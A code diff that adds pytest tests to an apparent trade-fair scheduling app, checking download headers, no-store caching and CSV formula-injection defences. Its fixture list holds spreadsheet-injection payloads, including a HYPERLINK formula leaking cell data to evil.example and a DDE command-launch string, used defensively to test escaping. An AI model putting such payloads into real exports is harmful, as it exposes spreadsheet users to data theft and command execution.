@@ -114,6 +114,50 @@ def test_csv_and_table_cards(client, auth, fairs, setup):
     assert cards.count("table-cards") >= 2 and "page-break" in cards
 
 
+def test_downloads_say_their_charset_once(client, auth, fairs, setup):
+    fair, keys = _published(fairs, setup)
+    auth.login("organizer@example.com")
+    assert client.get(f"/fairs/{fair.id}/schedule.csv").headers["Content-Type"] == "text/csv; charset=utf-8"
+    auth.logout()
+    auth.login("member@example.com")
+    assert client.get(f"/fairs/{fair.id}/agenda.ics").headers["Content-Type"] == "text/calendar; charset=utf-8"
+
+
+def test_private_downloads_are_never_stored(client, auth, fairs, setup):
+    fair, keys = _published(fairs, setup)
+    auth.login("organizer@example.com")
+    for path in ("schedule.csv", "table-cards", "schedule", "figures"):
+        assert client.get(f"/fairs/{fair.id}/{path}").headers.get("Cache-Control") == "no-store", path
+    auth.logout()
+    auth.login("member@example.com")
+    for path in ("agenda.ics", "agenda"):
+        assert client.get(f"/fairs/{fair.id}/{path}").headers.get("Cache-Control") == "no-store", path
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1")
+
+
+def test_safe_cell_neutralises_formulas():
+    from matchmaker.spreadsheet import csv_text, safe_cell
+
+    for text in FORMULAS:
+        assert safe_cell(text) == "'" + text
+    for value in ("藤沢精工", "A=B", " =x", "", 3, -1, 2.5, None):
+        assert safe_cell(value) == value
+    assert list(csv.reader(io.StringIO(csv_text([["=1+1", -1, "ok"]])))) == [["'=1+1", "-1", "ok"]]
+
+
+def test_csv_cells_are_never_formulas(client, auth, fairs, setup):
+    fair, keys = _published(fairs, setup)
+    setup["p2"].firm.name, setup["p3"].firm.name = FORMULAS[0], FORMULAS[3]
+    db.session.commit()
+    auth.login("organizer@example.com")
+    rows = list(csv.reader(io.StringIO(client.get(f"/fairs/{fair.id}/schedule.csv").get_data().decode("utf-8-sig"))))
+    assert rows[1][4] == "'" + FORMULAS[0] and rows[2][3] == "'" + FORMULAS[3]
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
 def test_followup_and_figures(client, auth, fairs, setup, make):
     fair, keys = _published(fairs, setup, days_ahead=0)  # the fair is today
     meetings = db.session.scalars(sa.select(Meeting).order_by(Meeting.id)).all()
